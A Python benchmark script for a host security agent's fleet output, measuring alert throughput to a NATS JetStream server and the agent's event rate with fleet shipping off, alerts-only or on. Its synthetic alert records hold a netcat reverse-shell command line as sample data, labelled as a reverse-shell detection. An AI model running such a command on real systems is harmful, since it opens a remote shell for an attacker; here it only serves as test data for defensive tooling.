"""The fleet output over NATS JetStream (issue 17.3).

A real nats-server (Debian's, JetStream, free port, temp store) per run.

* ``nats_output``: alerts per second from the fleet output's ``write`` (what its
  output worker calls with batches of up to 512) until JetStream has acked and
  stored every one (the stream's message count), N alerts of ~400 bytes;
* ``nats_queue_write``: the cost of ``write`` per alert (the on-disk queue
  insert: what the output worker pays; the agent's loop only appends to a deque);
* ``nats_agent_events_off`` / ``_alerts_only`` / ``_on``: events per second the agent
  processes under ``chmod_flood`` with the default policy, without a ``fleet:``
  section, with one (alerts only, the default) and with one that ships events too
  (``events: true``: the heaviest setting; every event into the queue and out to
  JetStream); sessions interleaved off/alerts/on/on/alerts/off, medians;
  ``nats_agent_events_ratio`` = on/off.
Root for the agent part.  Target: >= 5000 alerts/s to the broker.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

from _common import (PIN_CPU, ROOT, AgentProcess, c_program, check_target, emit, finish, log,
                     median, require_root)

sys.path.insert(0, str(ROOT / "tests"))
from support.natsd import NatsServer, nats_server  # noqa: E402

from bastion.control import request  # noqa: E402
from bastion.fleet import admin  # noqa: E402
from bastion.fleet.config import ConnSpec, FleetSpec  # noqa: E402
from bastion.fleet.link import FleetLink  # noqa: E402
from bastion.fleet.output import FleetOutput  # noqa: E402
from bastion.fleet.queue import DiskQueue  # noqa: E402

N = int(os.environ.get("BASTION_BENCH_NATS_N", "20000"))
FLOOD_S = float(os.environ.get("BASTION_BENCH_FLOOD_S", "4"))
TARGET = 5000.0


def _stored(url: str) -> int:
    import asyncio

    import nats

    async def go() -> int:
        nc = await nats.connect(url)
        try:
            return int((await nc.jetstream().stream_info("BASTION")).state.messages)
        finally:
            await nc.close()

    return asyncio.run(go())


def output_rate(srv: NatsServer, tmp: Path) -> tuple[float, float]:
    spec = FleetSpec(conn=ConnSpec(servers=(srv.url,)), host="bench", queue_max=N * 2)
    q = DiskQueue(tmp / f"q-{uuid.uuid4().hex[:6]}.db", N * 2)
    link = FleetLink(spec, data_dir=tmp, queue=q)
    link.bind(None, lambda *a: None, lambda: {})
    out = FleetOutput(spec, q, link)
    alerts = [("alert", {"time": "2026-12-04T12:00:00.000000Z", "id": uuid.uuid4().hex,
                         "rule": "behavior.reverse_shell", "title": f"alert {i}",
                         "severity": "high", "attack": ["T1059"], "action": "kill",
                         "process": {"pid": 1000 + i, "ppid": 1, "exe": "/usr/bin/nc",
                                     "cmdline": "nc -e /bin/sh 10.0.0.1 4444", "uid": 0}})
              for i in range(N)]
    before = _stored(srv.url)
    link.start()
    try:
        t0 = time.perf_counter()
        write_s = 0.0
        for i in range(0, N, 512):
            w = time.perf_counter()
            out.write(alerts[i:i + 512])   # type: ignore[arg-type]
            write_s += time.perf_counter() - w
        deadline = time.monotonic() + 300
        while _stored(srv.url) - before < N:
            if time.monotonic() > deadline:
                raise RuntimeError(f"only {_stored(srv.url) - before} of {N} alerts stored")
            time.sleep(0.05)
        elapsed = time.perf_counter() - t0
    finally:
        link.close()
    return N / elapsed, write_s / N * 1e6


def agent_rate(policy: Path) -> float:
    exe = c_program("chmod_flood")
    fd, path = tempfile.mkstemp(prefix="bastion-bench-nats-")
    os.close(fd)
    pin = ["taskset", "-c", str(PIN_CPU)] if PIN_CPU is not None else []
    try:
        with AgentProcess(extra_args=["--policy", str(policy)]) as agent:
            time.sleep(1.0)
            s0 = request(agent.socket, "status", timeout=30)
            t0 = time.monotonic()
            subprocess.run(pin + [str(exe), str(FLOOD_S), path], check=True,
                           capture_output=True, timeout=FLOOD_S + 60)
            s1 = request(agent.socket, "status", timeout=30)
            t1 = time.monotonic()
            fleet = s1.get("fleet")
            if policy.name.startswith("on") and not isinstance(fleet, dict):
                raise RuntimeError(f"the fleet output is not on: {fleet!r}")
            if isinstance(fleet, dict):
                log(f"fleet: {fleet}")
            return (int(s1["events_total"]) - int(s0["events_total"])) / (t1 - t0)
    finally:
        os.unlink(path)


def main() -> None:
    with tempfile.TemporaryDirectory(prefix="bastion-bench-nats-") as t:
        tmp = Path(t)
        for srv in nats_server(tmp / "nats"):
            admin.run(admin.init(ConnSpec(servers=(srv.url,))))
            rates, writes = [], []
            for _ in range(3):
                r, w = output_rate(srv, tmp)
                rates.append(r)
                writes.append(w)
            rate, write_us = median(rates), median(writes)
            log(f"nats_output runs: {[f'{r:.0f}' for r in rates]} alerts/s")
            check_target("nats_output alerts/s", rate, TARGET, at_most=False)
            emit("nats_output", rate, "alerts/s", ".0f")
            emit("nats_queue_write", write_us, "us", ".1f")
            require_root()
            sys.path.insert(0, str(ROOT / "tests"))
            from support.policies import default_policy

            off = default_policy(tmp / "off.yaml", tmp / "shielded")
            on = tmp / "on.yaml"
            on.write_text(off.read_text() + f"fleet:\n  servers: [{srv.url}]\n  host: bench\n"
                          "  events: true\n  queue: 10000000\n")
            alerts = tmp / "on-alerts.yaml"     # the default fleet setting: alerts only
            alerts.write_text(off.read_text() + f"fleet:\n  servers: [{srv.url}]\n  host: bench\n")
            pols = {"off": off, "on": on, "alerts": alerts}
            got: dict[str, list[float]] = {k: [] for k in pols}
            for which in ("off", "alerts", "on", "on", "alerts", "off"):
                got[which].append(agent_rate(pols[which]))
                log(f"agent events/s, fleet {which}: {got[which][-1]:.0f}")
            a, b, c = median(got["off"]), median(got["on"]), median(got["alerts"])
            emit("nats_agent_events_off", a, "events/s", ".0f")
            emit("nats_agent_events_alerts_only", c, "events/s", ".0f")
            emit("nats_agent_events_on", b, "events/s", ".0f")
            emit("nats_agent_events_ratio", b / a if a else 0.0, "ratio", ".2f")
    finish()


if __name__ == "__main__":
    main()
